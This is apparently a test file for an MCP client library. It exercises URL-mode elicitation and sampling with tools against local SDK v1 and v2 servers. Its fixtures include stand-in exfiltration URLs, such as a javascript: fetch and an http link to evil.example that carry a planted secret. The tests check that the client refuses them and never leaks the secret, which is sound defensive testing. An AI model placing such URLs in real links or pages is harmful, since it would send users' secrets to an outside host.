// URL-mode elicitation and sampling with tools through the packed package, against servers written
// with the official TypeScript SDKs on 127.0.0.1: SDK v1 (2025-11-25: the server's own
// elicitation/create and sampling/createMessage requests, notifications/elicitation/complete,
// URLElicitationRequiredError -32042) and SDK v2 (2026-07-28: the same asked as input requests).
// A secret planted in the query of every URL the server sends never shows in an error or a record.
import { test, describe, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import { randomUUID } from "node:crypto";
import * as z from "zod/v4";
import * as v2 from "@modelcontextprotocol/server";
import { toNodeHandler } from "@modelcontextprotocol/node";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { UrlElicitationRequiredError } from "@modelcontextprotocol/sdk/types.js";
import { tg } from "./helpers.mjs";
import { eventually } from "./waits.mjs";
import { startEverything } from "./mcp-servers.mjs";
import { serveSdkV1 } from "./sdk-v1-http.mjs";

const LOOPBACK = Object.freeze({ allowUrls: true, allowLoopbackHttp: true });
const SECRET = "tg-url-secret-7f3a";
const PAY_URL = `https://pay.example.com/checkout?session=${SECRET}`;
const BAD_URLS = {
  javascript: `javascript:fetch('//evil.example/?k=${SECRET}')`,
  "http to a public host": `http://evil.example/steal?k=${SECRET}`,
  userinfo: `https://user:${SECRET}@pay.example.com/`,
};
/** The URL a server's pay tool sends for args.which: the good one or a bad one (so no call's arguments carry it). */
const urlOf = (which) => BAD_URLS[which] ?? PAY_URL;
const text = (t) => ({ content: [{ type: "text", text: t }] });
const WEATHER = { name: "get_weather", description: "Weather of a city", inputSchema: { type: "object", properties: { city: { type: "string" } }, required: ["city"] } };
const SAMPLE = {
  messages: [{ role: "user", content: { type: "text", text: "Weather in Paris?" } }],
  maxTokens: 100,
  tools: [WEATHER],
  toolChoice: { mode: "required" },
};
const TOOL_USE = { role: "assistant", model: "app-model", stopReason: "toolUse", content: [{ type: "tool_use", id: "call_1", name: "get_weather", input: { city: "Paris" } }] };

/** A sampling hook that answers TOOL_USE (or `answer`), recording its params. */
function toolModel(seen, answer = TOOL_USE) {
  return async (params) => {
    seen.push(params);
    return answer;
  };
}

/** The response text of a call that must complete. */
async function callText(b, name, args = {}) {
  const fc = await b.invoke({ function: name, arguments: args });
  assert.equal(fc.status, "completed", `${name}: got ${fc.status} (${fc.error?.code}: ${fc.error?.message})`);
  return typeof fc.response === "string" ? fc.response : JSON.stringify(fc.response);
}

/** Fails when SECRET is anywhere in v (an error, a record). */
function noSecret(v) {
  const s = typeof v === "string" ? v : JSON.stringify(v);
  assert.ok(!s.includes(SECRET), `the planted secret leaked: ${s}`);
}

/**
 * SDK v1 (2025-11-25), stateful Streamable HTTP. pay: a URL-mode elicitation of args.url, then the
 * completion notification on accept; connect: URLElicitationRequiredError until the user finished
 * (the test's hook calls finish, as the connect page would); plan: sampling with a tool.
 */
async function startV1() {
  const finished = new Set();
  const servers = new Set();
  const build = () => {
    const server = new McpServer({ name: "v1-url", version: "1.0.0" });
    servers.add(server);
    const ask = (p) => p.then((r) => JSON.stringify(r), (e) => `error ${e.code} ${e.message}`);
    server.registerTool("pay", { inputSchema: { which: z.string() } }, async ({ which }) => {
      const elicitationId = randomUUID();
      const answer = await ask(server.server.elicitInput({ mode: "url", url: urlOf(which), message: "Pay for the report", elicitationId }));
      if (answer.includes('"accept"')) await server.server.createElicitationCompletionNotifier(elicitationId)();
      return text(answer);
    });
    server.registerTool("connect", {}, async () => {
      if (!finished.has("conn-1")) {
        throw new UrlElicitationRequiredError([{ mode: "url", elicitationId: "conn-1", url: `https://auth.example.com/connect?state=${SECRET}`, message: "Connect your files" }]);
      }
      return text("connected");
    });
    server.registerTool("plan", {}, async () => text(await ask(server.server.createMessage(SAMPLE))));
    return server;
  };
  const host = await serveSdkV1(build);
  return {
    url: host.url,
    /** The user finished the connect page: every session is told (the one that asked listens on its GET stream). */
    finish: async (elicitationId) => {
      finished.add(elicitationId);
      for (const s of servers) {
        try {
          await s.server.createElicitationCompletionNotifier(elicitationId)(); // throws for a client without URL mode
        } catch {
          // a session that did not declare URL mode, or has no stream open
        }
      }
    },
    reset: () => finished.clear(),
    stop: host.stop,
  };
}

/** SDK v2 (2026-07-28 only): pay and plan as input requests (inputRequired.elicitUrl, .createMessage). */
async function startV2() {
  const handler = v2.createMcpHandler(() => {
    const server = new v2.McpServer({ name: "v2-url", version: "1.0.0" });
    server.registerTool("pay", { inputSchema: z.object({ which: z.string() }) }, async ({ which }, ctx) => {
      const view = v2.inputResponse(ctx.mcpReq.inputResponses, "pay");
      if (view.kind === "elicit") return text(`paid: ${view.action}`);
      return v2.inputRequired({ inputRequests: { pay: v2.inputRequired.elicitUrl({ url: urlOf(which), message: "Pay for the report" }) } });
    });
    server.registerTool("plan", { inputSchema: z.object({}) }, async (_args, ctx) => {
      const view = v2.inputResponse(ctx.mcpReq.inputResponses, "model");
      if (view.kind === "sampling") return text(JSON.stringify(view.result));
      return v2.inputRequired({ inputRequests: { model: v2.inputRequired.createMessage(SAMPLE) } });
    });
    return server;
  }, { legacy: "reject" });
  const httpServer = http.createServer(toNodeHandler(handler));
  await new Promise((resolve) => httpServer.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${httpServer.address().port}/mcp`,
    stop: async () => { await handler.close(); httpServer.closeAllConnections(); await new Promise((resolve) => httpServer.close(resolve)); },
  };
}

describe("URL-mode elicitation and sampling with tools", () => {
  let s1;
  let s2;
  let ev;
  before(async () => {
    [s1, s2, ev] = await Promise.all([startV1(), startV2(), startEverything("streamable-http")]);
  });
  after(async () => {
    await tg.mcp.cleanup();
    await Promise.all([s1?.stop(), s2?.stop(), ev?.stop()]);
  });

  test("server-everything: trigger-url-elicitation is listed only with elicitationUrl, and both its paths reach the hook", async () => {
    const form = await tg.branch().registerMcpServer({ name: "ev", url: ev.url }, { security: LOOPBACK, elicitation: async () => ({ action: "decline" }) });
    assert.ok(!form.includes("mcp__ev__trigger-url-elicitation"));
    const asked = [];
    const b = tg.branch();
    const names = await b.registerMcpServer({ name: "ev", url: ev.url }, {
      security: LOOPBACK,
      elicitationUrl: async (params) => { asked.push(params); return { action: "accept" }; },
    });
    assert.ok(names.includes("mcp__ev__trigger-url-elicitation"), names.join(", "));
    const url = `https://example.com/verify?code=${SECRET}`;
    assert.match(await callText(b, "mcp__ev__trigger-url-elicitation", { url }), /User completed the URL elicitation flow/);
    assert.deepEqual(asked.map((p) => p.url), [url]);
    // the error path: -32042 for a prerequisite URL, the hook asked, the call sent again, which asks for the URL itself
    asked.length = 0;
    assert.match(await callText(b, "mcp__ev__trigger-url-elicitation", { url, errorPath: true }), /User completed the URL elicitation flow/);
    assert.deepEqual(asked.map((p) => p.url), ["https://modelcontextprotocol.io", url]);
  });

  describe("2025-11-25 (SDK v1)", () => {
    test("the elicitationUrl hook gets the URL, message and id; its completion reaches onElicitationComplete", async () => {
      const asked = [];
      const completed = [];
      const b = tg.branch();
      await b.registerMcpServer({ name: "v1", url: s1.url }, {
        security: LOOPBACK,
        elicitationUrl: async (params, { signal }) => {
          assert.ok(signal instanceof AbortSignal);
          asked.push(params);
          return { action: "accept", content: { ignored: "x" } };
        },
        onElicitationComplete: (event) => completed.push(event),
      });
      assert.equal(await callText(b, "mcp__v1__pay", { which: "good" }), '{"action":"accept"}', "URL mode sends no content");
      assert.equal(asked.length, 1);
      assert.equal(asked[0].mode, "url");
      assert.equal(asked[0].url, PAY_URL, "the hook sees the URL as sent: it is the user's to open");
      assert.equal(asked[0].message, "Pay for the report");
      await eventually("the completion notification", () => completed.length === 1);
      assert.deepEqual(completed, [{ server: "v1", elicitationId: asked[0].elicitationId }]);
    });

    test("URL mode is declared only with the elicitationUrl hook", async () => {
      const b = tg.branch();
      await b.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, elicitation: async () => ({ action: "decline" }) });
      const fc = await b.invoke({ function: "mcp__v1__pay", arguments: { which: "good" } });
      assert.match(fc.response, /Client does not support url elicitation/, "the SDK sends no URL mode to a client that did not declare it");
      noSecret(fc.toDict());
    });

    for (const name of Object.keys(BAD_URLS)) {
      test(`a URL the client refuses (${name}) never reaches the hook and never shows`, async () => {
        let called = 0;
        const b = tg.branch();
        await b.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, elicitationUrl: async () => { called++; return { action: "accept" }; } });
        const fc = await b.invoke({ function: "mcp__v1__pay", arguments: { which: name } });
        assert.equal(fc.status, "completed");
        assert.match(fc.response, /^error -32602 .*URL-mode elicitation refused: .*refused by rule "(elicitation-url|scheme|userinfo)"/);
        assert.equal(called, 0);
        noSecret(fc.toDict());
      });
    }

    test("URLElicitationRequiredError: the hook is asked, then the call is sent again", async () => {
      s1.reset();
      const asked = [];
      const b = tg.branch();
      await b.registerMcpServer({ name: "v1", url: s1.url }, {
        security: LOOPBACK,
        elicitationUrl: async (params) => {
          asked.push(params);
          await s1.finish(params.elicitationId); // the user opened the page and connected
          return { action: "accept" };
        },
      });
      assert.equal(await callText(b, "mcp__v1__connect"), "connected");
      assert.equal(asked.length, 1);
      assert.equal(asked[0].elicitationId, "conn-1");
      assert.equal(asked[0].url, `https://auth.example.com/connect?state=${SECRET}`);
    });

    test("URLElicitationRequiredError without the hook fails unsupported, naming the origin only", async () => {
      s1.reset();
      const b = tg.branch();
      await b.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, elicitation: async () => ({ action: "cancel" }) });
      const fc = await b.invoke({ function: "mcp__v1__connect", arguments: {} });
      assert.equal(fc.status, "failed");
      assert.equal(fc.error.code, "unsupported");
      assert.equal(fc.error.rule, "url-elicitation-required");
      assert.equal(fc.error.transport.rpcCode, -32042);
      assert.match(fc.error.message, /https:\/\/auth\.example\.com/);
      noSecret(fc.error);
      noSecret(fc.toDict());
    });

    test("URLElicitationRequiredError declined by the hook fails policy-denied", async () => {
      s1.reset();
      const b = tg.branch();
      await b.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, elicitationUrl: async () => ({ action: "decline" }) });
      const fc = await b.invoke({ function: "mcp__v1__connect", arguments: {} });
      assert.equal(fc.error.code, "policy-denied");
      assert.equal(fc.error.rule, "elicitation-declined");
      noSecret(fc.toDict());
    });

    test("sampling with tools: declared by samplingTools, tools and toolChoice reach the hook, a tool_use answer reaches the server", async () => {
      const seen = [];
      const b = tg.branch();
      await b.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, sampling: toolModel(seen), samplingTools: true });
      assert.deepEqual(JSON.parse(await callText(b, "mcp__v1__plan")), TOOL_USE);
      assert.deepEqual(seen[0].tools, [WEATHER]);
      assert.deepEqual(seen[0].toolChoice, { mode: "required" });

      const plain = tg.branch();
      await plain.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, sampling: toolModel([]) });
      assert.match(await callText(plain, "mcp__v1__plan"), /Client does not support sampling tools/, "without samplingTools the SDK sends no tools");
    });

    test("a tool_use naming a tool the request did not offer is answered -32602", async () => {
      const b = tg.branch();
      const rogue = { ...TOOL_USE, content: [{ type: "tool_use", id: "call_1", name: "delete_everything", input: {} }] };
      await b.registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, sampling: toolModel([], rogue), samplingTools: true });
      assert.match(await callText(b, "mcp__v1__plan"), /^error -32602 .*content\[0\]\.name must name one of the request's tools/);
    });

    test("samplingTools needs a boolean and the sampling hook", async () => {
      await assert.rejects(tg.branch().registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, samplingTools: "yes", sampling: toolModel([]) }),
        (e) => e.code === "unsupported-type" && /samplingTools/.test(e.message));
      await assert.rejects(tg.branch().registerMcpServer({ name: "v1", url: s1.url }, { security: LOOPBACK, samplingTools: true }),
        (e) => e.code === "unsupported-type" && /samplingTools needs the sampling hook/.test(e.message));
    });
  });

  describe("2026-07-28 (SDK v2)", () => {
    test("a URL input request reaches the elicitationUrl hook; the answer goes back in the retry", async () => {
      const asked = [];
      const b = tg.branch();
      await b.registerMcpServer({ name: "v2", url: s2.url }, { security: LOOPBACK, elicitationUrl: async (p) => { asked.push(p); return { action: "accept" }; } });
      assert.equal(b.tools.get("mcp__v2__pay").mcp.protocolVersion, "2026-07-28");
      assert.equal(await callText(b, "mcp__v2__pay", { which: "good" }), "paid: accept");
      assert.equal(asked[0].url, PAY_URL);
      assert.equal(asked[0].elicitationId, undefined, "2026-07-28 has no elicitationId");
    });

    for (const name of Object.keys(BAD_URLS)) {
      test(`a URL input request the client refuses (${name}) fails the call policy-denied`, async () => {
        let called = 0;
        const b = tg.branch();
        await b.registerMcpServer({ name: "v2", url: s2.url }, { security: LOOPBACK, elicitationUrl: async () => { called++; return { action: "accept" }; } });
        const fc = await b.invoke({ function: "mcp__v2__pay", arguments: { which: name } });
        assert.equal(fc.status, "failed");
        assert.equal(fc.error.code, "policy-denied");
        assert.ok(["elicitation-url", "scheme", "userinfo"].includes(fc.error.rule), fc.error.rule);
        assert.equal(called, 0);
        noSecret(fc.error);
        noSecret(fc.toDict());
      });
    }

    test("without the elicitationUrl hook the server's capability check refuses the input request", async () => {
      const b = tg.branch();
      await b.registerMcpServer({ name: "v2", url: s2.url }, { security: LOOPBACK, elicitation: async () => ({ action: "decline" }) });
      const fc = await b.invoke({ function: "mcp__v2__pay", arguments: { which: "good" } });
      assert.equal(fc.status, "failed");
      assert.equal(fc.error.transport.rpcCode, -32021);
      assert.match(fc.error.message, /elicitationUrl/, "the error names the hook to give");
      noSecret(fc.toDict());
    });

    test("sampling with tools through an input request", async () => {
      const seen = [];
      const b = tg.branch();
      await b.registerMcpServer({ name: "v2", url: s2.url }, { security: LOOPBACK, sampling: toolModel(seen), samplingTools: true });
      assert.deepEqual(JSON.parse(await callText(b, "mcp__v2__plan")), TOOL_USE);
      assert.deepEqual(seen[0].tools, [WEATHER]);
      assert.deepEqual(seen[0].toolChoice, { mode: "required" });
    });
  });
});
